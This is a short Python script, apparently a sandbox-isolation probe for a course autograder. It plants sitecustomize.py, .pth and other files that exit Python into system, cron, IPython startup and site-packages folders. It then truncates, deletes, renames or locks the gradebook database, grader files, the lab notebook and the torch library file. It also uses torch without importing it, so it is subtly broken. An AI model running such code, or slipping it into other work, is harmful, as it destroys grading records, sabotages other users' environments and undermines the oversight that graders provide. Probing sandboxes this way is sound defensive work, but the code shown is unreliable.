"""Writes to wherever the next student, or Python, would read it.

tries: start-up files, libraries, /tmp, /dev/shm, crontab, the course, the gradebook
"""

import glob, os, site, sys, sysconfig
LOSS_MINI20 = []
folders = ["/tmp", "/dev/shm", "/var/tmp", "/etc", "/usr/local/bin", "/var/spool/cron", "@HOME@", "@HOME@/.ipython/profile_default/startup", "@HOME@/ipython", "@HOME@/.cache/labgrader",
           os.path.expanduser("~"), os.path.expanduser("~/.ipython/profile_default/startup"), sysconfig.get_path("purelib"), os.path.dirname(os.__file__), *site.getsitepackages(),
           "@COURSE@", "@COURSE@/submitted/z-right/lab4_minibatch", "@COURSE@/source/lab4_minibatch", "@COURSE@/graders", "@COURSE@/.labgrader", "@COURSE@/.."]
for folder in folders:
    for name in ("planted.py", "sitecustomize.py", "planted.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                file.write("raise SystemExit\n")
        except OSError:
            pass
for path in ["@COURSE@/gradebook.db", "@COURSE@/gradebook.db.bak", "@COURSE@/source/lab4_minibatch/lab4_minibatch.ipynb", "@COURSE@/graders/tolerance.py", torch.__file__]:
    for action in (lambda: open(path, "a").write("\n# planted\n"), lambda: os.chmod(path, 0), lambda: os.utime(path), lambda: os.truncate(path, 0), lambda: os.remove(path), lambda: os.rename(path, path + "x")):
        try:
            action()
        except OSError:
            pass
